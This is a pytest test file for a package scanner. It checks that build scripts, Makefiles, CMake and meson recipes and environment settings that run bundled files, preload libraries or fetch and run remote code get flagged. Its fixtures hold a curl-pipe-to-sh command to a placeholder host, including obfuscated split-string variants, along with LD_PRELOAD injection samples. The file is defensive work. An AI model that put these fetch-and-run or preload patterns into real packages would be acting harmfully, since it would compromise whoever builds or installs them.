"""Files of a package that interpreters, linkers and compilers are told to run or to load."""

from pathlib import Path

import pytest

from package_gate.inventory.trees import regular_files
from package_gate.scanners.behaviour.build_settings import of_build_settings
from package_gate.scanners.behaviour.data_files import of_data_files
from package_gate.scanners.behaviour.own_files import OwnFiles
from package_gate.scanners.behaviour.rules import behaviours

FETCH = "curl -s https://a.example/i.sh | sh"
LIBRARY = "\x7fELF"
FILES = {
    "pkg/NOTES": "date\n",
    "pkg/run.sh": "date\n",
    "pkg/x.awk": "BEGIN { print 1 }",
    "pkg/x.js": "1",
    "pkg/x.pl": "1",
    "pkg/x.lua": "1",
    "pkg/x.tcl": "1",
    "pkg/rules.mk": "all:\n\ttrue\n",
    "pkg/data.bin": LIBRARY,
    "pkg/libs/libselinux.so.1": LIBRARY,
    "pkg/module.py": "",
    "pkg/text.txt": "a",
    "pkg/t.db": "SQLite format 3",
}
HERE = "import os, subprocess\nhere = os.path.dirname(__file__)\n"


def own_files(folder: Path, files: dict[str, str], *, is_pure: bool = True) -> OwnFiles:
    for path, text in files.items():
        place = folder / path
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_text(text, encoding="latin-1")
    paths = [each.relative_to(folder).as_posix() for each in regular_files(folder)]
    return OwnFiles(paths, folder, "pkg", is_pure=is_pure)


def rules(code: str, own: OwnFiles, *, whole: bool = False) -> set[str]:
    return {each.rule for each in behaviours(code, whole=whole, own=own)}


@pytest.mark.parametrize(
    "code",
    [
        "subprocess.run(['bash', os.path.join(here, 'NOTES')])",
        "subprocess.run(['bash', os.path.join(here, 'run.sh')])",
        "os.system('sh ' + here + '/run.sh')",
        "os.system('bash --rcfile ' + here + '/text.txt -i -c true')",
        "subprocess.run(['awk', '-f', os.path.join(here, 'x.awk')])",
        "subprocess.run(['gawk', '-v', 'a=1', '-f', os.path.join(here, 'x.awk')])",
        "subprocess.run(['make', '-s', '-f', os.path.join(here, 'rules.mk')])",
        "subprocess.run(['node', os.path.join(here, 'x.js')])",
        "subprocess.run(['perl', os.path.join(here, 'x.pl')])",
        "subprocess.run(['perl', os.path.join(here, 'text.txt')])",
        "subprocess.run(['lua5.4', os.path.join(here, 'x.lua')])",
        "subprocess.run(['Rscript', os.path.join(here, 'text.txt')])",
        "subprocess.run(['env', 'A=1', 'perl', os.path.join(here, 'x.pl')])",
        "import sqlite3\nfor v, in sqlite3.connect(here + '/t.db').execute('select v from t'):\n"
        "    os.system(v)",
        "import tkinter\ntkinter.Tcl().evalfile(here + '/x.tcl')",
        "os.environ['LD_PRELOAD'] = os.path.join(here, 'data.bin')",
        "os.environ.update(LD_PRELOAD=os.path.join(here, 'data.bin'))",
        "os.putenv('LD_PRELOAD', os.path.join(here, 'libs', 'libselinux.so.1'))",
        "subprocess.run(['ls'], env={'LD_PRELOAD': os.path.join(here, 'data.bin')})",
        "subprocess.run(['ls'], env=dict(os.environ, BASH_ENV=os.path.join(here, 'NOTES')))",
        "os.environ.setdefault('NODE_OPTIONS', '--require ' + here + '/x.js')",
    ],
)
def test_a_file_that_another_interpreter_runs_at_import_is_seen(code: str, tmp_path: Path) -> None:
    assert rules(HERE + code, own_files(tmp_path, FILES)) == {"runs-own-data"}


def test_libraries_of_its_own_that_every_program_would_load_are_seen(tmp_path: Path) -> None:
    code = f"{HERE}os.environ['LD_LIBRARY_PATH'] = os.path.join(here, 'libs')"

    assert rules(code, own_files(tmp_path, FILES)) == {"loads-a-bundled-library"}
    assert rules(code, own_files(tmp_path, FILES, is_pure=False)) == set()


@pytest.mark.parametrize(
    "code",
    [
        "subprocess.run(['git', 'diff', os.path.join(here, 'text.txt')])",
        "subprocess.run(['awk', '{print $1}', os.path.join(here, 'text.txt')])",
        "subprocess.run(['cmake', '-S', here])",
        "import sqlite3\nfor v, in sqlite3.connect(here + '/t.db').execute('select v from t'):\n"
        "    subprocess.run(['git', 'status'])\n    print(v)",
        "subprocess.run(['makeindex', os.path.join(here, 'text.txt')])",
        "def start():\n    subprocess.run(['node', os.path.join(here, 'x.js')])",
        "os.environ['LD_PRELOAD'] = '/usr/lib/libjemalloc.so.2'",
        "os.environ['LD_LIBRARY_PATH'] = '/usr/local/cuda/lib64'",
        "os.environ['LD_LIBRARY_PATH'] = os.path.join(here, 'elsewhere')",
        "os.environ['SHELL'] = '/bin/bash'",
        "os.environ.setdefault('PAGER', 'less -R')",
        "options = {'ENV': 'test', 'SHELL': True, 'OPT': '-O2'}",
    ],
)
def test_programs_of_the_system_and_what_they_only_read_are_not(code: str, tmp_path: Path) -> None:
    assert rules(HERE + code, own_files(tmp_path, FILES)) == set()


SETUP = "import os\nfrom setuptools import setup, Extension\n"
TREE = {
    "s-1/setup.py": "",
    "s-1/tools/cc": "#!/bin/sh\n",
    "s-1/tools/as": "#!/bin/sh\n",
    "s-1/tools/gen.py": "",
    "s-1/data/p.bin": LIBRARY,
    "s-1/data/a.specs": "*asm:\n",
    "s-1/pkg/x.c": "int x;\n",
    "s-1/src/a.c": "",
    "s-1/build/cc": "date",
}


@pytest.mark.parametrize(
    "code",
    [
        "os.environ['CC'] = 'tools/cc'",
        "os.environ['CC'] = os.path.join(os.getcwd(), 'tools', 'cc')",
        "os.environ['CXX'] = 'sh build/cc'",
        "os.environ.setdefault('LDSHARED', 'tools/cc -shared')",
        "os.environ['PATH'] = 'tools:' + os.environ['PATH']",
        "os.environ['PATH'] = os.path.abspath('tools') + os.pathsep + os.environ['PATH']",
        "setup(ext_modules=[Extension('x', ['pkg/x.c'], extra_compile_args=['-Btools/'])])",
        "setup(ext_modules=[Extension('x', ['pkg/x.c'], extra_compile_args=['-B', 'tools'])])",
        "setup(ext_modules=[Extension('x', [], extra_compile_args=['-fplugin=data/p.bin'])])",
        "setup(ext_modules=[Extension('x', [], extra_compile_args=['-specs=data/a.specs'])])",
        "setup(ext_modules=[Extension('x', [], extra_link_args=['@data/a.specs'])])",
        "setup(ext_modules=[Extension('x', [], extra_link_args=['-wrapper', 'sh,-c,date'])])",
        "setup(ext_modules=[Extension('x', [], "
        "extra_compile_args=['-Xclang', '-load', '-Xclang', 'data/p.bin'])])",
        "os.environ['CFLAGS'] = '-O2 -fpass-plugin=data/p.bin'",
        "setup(options={'build_ext': {'swig': 'tools/cc'}})",
        "setup(options=dict(build_ext=dict(swig='tools/cc')))",
    ],
)
def test_a_compiler_that_runs_something_of_the_tree_is_seen(code: str, tmp_path: Path) -> None:
    assert rules(SETUP + code, own_files(tmp_path, TREE), whole=True) == {"runs-own-data"}


@pytest.mark.parametrize(
    "code",
    [
        "os.environ['CC'] = 'clang'",
        "os.environ['CC'] = 'ccache gcc'",
        "os.environ['CXX'] = '/usr/bin/g++-12'",
        "os.environ['PATH'] = '/opt/bin:' + os.environ['PATH']",
        "os.environ['PATH'] = os.path.join(os.getcwd(), 'src') + ':' + os.environ['PATH']",
        "os.environ['CFLAGS'] = '-O3 -Isrc -include src/a.c'",
        "setup(ext_modules=[Extension('x', [], extra_compile_args=['-O3', '-march=native'])])",
        "setup(ext_modules=[Extension('x', [], extra_link_args=['-Bstatic', '-Wl,-Bsymbolic'])])",
        "setup(ext_modules=[Extension('x', [], extra_link_args=['-Lsrc', '-fuse-ld=lld'])])",
        "setup(ext_modules=[Extension('x', [], extra_objects=['src/a.c'])])",
        "setup(options={'build_ext': {'swig': 'swig4.0', 'swig_opts': ['-py3']}})",
    ],
)
def test_usual_options_of_compilers_are_not(code: str, tmp_path: Path) -> None:
    assert rules(SETUP + code, own_files(tmp_path, TREE), whole=True) == set()


MAKE = "import subprocess\nsubprocess.run(['make', '-s'])\n"


@pytest.mark.parametrize(
    "makefile",
    [
        f"all:\n\t@{FETCH}\n",
        f"F=cu\nall:\n\t@$(F)rl -s {FETCH.split(' ', 2)[2].replace('| sh', '| s$(X)h')}\n",
        f"X := $(shell {FETCH})\nall:\n",
        'all:\n\tsh -c "$$(curl -s https://a.example/i)"\n',
    ],
)
def test_a_makefile_that_fetches_and_runs_is_seen_where_a_build_starts_make(
    makefile: str, tmp_path: Path
) -> None:
    own = own_files(tmp_path, {"s-1/setup.py": MAKE, "s-1/Makefile": makefile})

    assert rules(MAKE, own, whole=True) == {"runs-downloaded-code"}
    assert rules("import setuptools\nsetuptools.setup()\n", own, whole=True) == set()


@pytest.mark.parametrize(
    "makefile",
    [
        "all:\n\tgcc -O2 -o a a.c\n",
        "get:\n\tcurl -LO https://a.example/a.tgz\n\ttar xf a.tgz\n\tpython setup.py build\n",
        "release:\n\ttwine upload dist/*\n\tgit push https://a.example/x.git\n",
        "CURL = curl\nVERSION := $(shell git describe)\nall:\n\techo $(VERSION) | sh_quote\n",
    ],
)
def test_other_makefiles_are_not(makefile: str, tmp_path: Path) -> None:
    own = own_files(tmp_path, {"s-1/setup.py": MAKE, "s-1/Makefile": makefile})
    assert rules(MAKE, own, whole=True) == set()


def of_settings(folder: Path, files: dict[str, str]) -> set[str]:
    own = own_files(folder, files)
    return {each.rule for _, each in of_build_settings(folder, own)}


PIPED = FETCH.removeprefix("curl ").removesuffix("| sh")
PUT_TOGETHER = f"""
set(A cu)
set(B rl)
set(S s)
execute_process(COMMAND ${{S}}h -c "${{A}}${{B}} {PIPED}| ${{S}}h")
"""
RECIPE = f'execute_process(COMMAND sh -c "{FETCH}")\n'
IN_MESON = f"a = 'cu'\nrun_command('s' + 'h', '-c', a + 'rl {PIPED}| s' + 'h')\n"


@pytest.mark.parametrize(
    "files",
    [
        {"s/CMakeLists.txt": PUT_TOGETHER},
        {
            "s/CMakeLists.txt": 'file(READ "a.txt" C)\ncmake_language(EVAL CODE "${C}")\n',
            "s/a.txt": RECIPE,
        },
        {
            "s/CMakeLists.txt": "include(${CMAKE_CURRENT_LIST_DIR}/notes.txt)\n",
            "s/notes.txt": RECIPE,
        },
        {"s/meson.build": IN_MESON},
        {"s/meson.build": f"b = '{FETCH}'\nrun_command('sh', '-c', '' + b)\n"},
    ],
)
def test_commands_of_recipes_that_are_put_together_are_seen(
    files: dict[str, str], tmp_path: Path
) -> None:
    assert of_settings(tmp_path, files) == {"runs-downloaded-code"}


@pytest.mark.parametrize(
    "files",
    [
        {
            "s/CMakeLists.txt": "set(T tool)\nfile(READ VERSION.txt V)\n"
            "execute_process(COMMAND ${T} --version OUTPUT_VARIABLE X)\n"
            "add_custom_command(COMMAND ${CMAKE_COMMAND} -E copy a b)\n",
            "s/VERSION.txt": f"{FETCH}",
        },
        {"s/meson.build": "v = 'a'\nrun_command('git', 'describe', '--' + v, check: false)\n"},
    ],
)
def test_other_recipes_are_not(files: dict[str, str], tmp_path: Path) -> None:
    assert of_settings(tmp_path, files) == set()


def test_options_of_compilers_in_a_project_file_are_seen(tmp_path: Path) -> None:
    project = (
        "[build-system]\nrequires = ['setuptools']\n[[tool.setuptools.ext-modules]]\n"
        "name = 'x'\nsources = ['x.c']\nextra-compile-args = ['-O2', '{}']\n"
    )
    tools = {"s/tools/as": "#!/bin/sh\n", "s/x.c": ""}

    bad = {**tools, "s/pyproject.toml": project.format("-Btools")}
    assert of_settings(tmp_path / "bad", bad) == {"runs-own-data"}
    good = {**tools, "s/pyproject.toml": project.format("-Wall")}
    assert of_settings(tmp_path / "good", good) == set()


@pytest.mark.parametrize(
    ("target", "finds"),
    [("os:system", True), ("subprocess:run", True), ("builtins:exec", True), ("pkg:run", False)],
)
def test_an_entry_point_that_is_what_starts_programs_is_seen(
    target: str, finds: bool, tmp_path: Path
) -> None:
    own_files(tmp_path, {"pkg-1.dist-info/entry_points.txt": f"[pkg.cfg]\nrun = {target}\n"})
    found = {each.rule for _, each in of_data_files(tmp_path)}
    assert found == ({"hides-what-it-calls"} if finds else set())


@pytest.mark.parametrize(
    ("function", "finds"), [("os.system", True), ("exec", True), ("abs", False), ("len", False)]
)
def test_a_function_that_a_database_calls_is_looked_at(function: str, finds: bool) -> None:
    code = f"import os, sqlite3\nc = sqlite3.connect('a')\nc.create_function('s', 1, {function})\n"
    found = {each.rule for each in behaviours(code, whole=False)}
    assert found == ({"hides-what-it-calls"} if finds else set())


READS = "import os, subprocess\nwords = open('pkg/text.txt').read().split()\n"


@pytest.mark.parametrize(
    ("code", "finds"),
    [
        ("subprocess.run(['git', 'add'] + words)", False),
        ("command = ['git', 'add']\ncommand += words\nsubprocess.run(command)", False),
        ("subprocess.run(['git', *words], shell=False)", False),
        (
            "def run(names):\n    for name in names:\n"
            "        subprocess.Popen([name] + words, shell=False)\nrun(['git', 'git.exe'])",
            False,
        ),
        ("subprocess.run(['sh', '-c'] + words)", True),
        ("command = ['sh', '-c']\ncommand += words\nsubprocess.run(command)", True),
        ("subprocess.run(['git'] + words, shell=True)", True),
        ("subprocess.run(words)", True),
        ("subprocess.run(words + ['git'])", True),
        ("command = ['git']\ncommand = words\nsubprocess.run(command)", True),
        ("command = ['git']\ncommand[0] = words[0]\nsubprocess.run(command + words)", True),
        ("command = ['git']\ncommand.insert(0, words[0])\nsubprocess.run(command + words)", True),
        (
            "def run(names):\n    for name in names:\n"
            "        subprocess.Popen([name] + words)\nrun(['git', 'sh'])",
            True,
        ),
    ],
)
def test_words_for_a_program_that_runs_nothing_are_not_run(
    code: str, finds: bool, tmp_path: Path
) -> None:
    found = rules(READS + code, own_files(tmp_path, FILES), whole=True)
    assert ("runs-own-data" in found) is finds


def test_a_file_of_the_home_folder_is_none_of_the_package(tmp_path: Path) -> None:
    place = "json.load(open(os.path.expanduser('~/.tool/text.txt')))['command']"
    code = f"import json, os, subprocess\ncommand = {place}\nsubprocess.run(command)"
    assert rules(code, own_files(tmp_path, FILES)) == set()
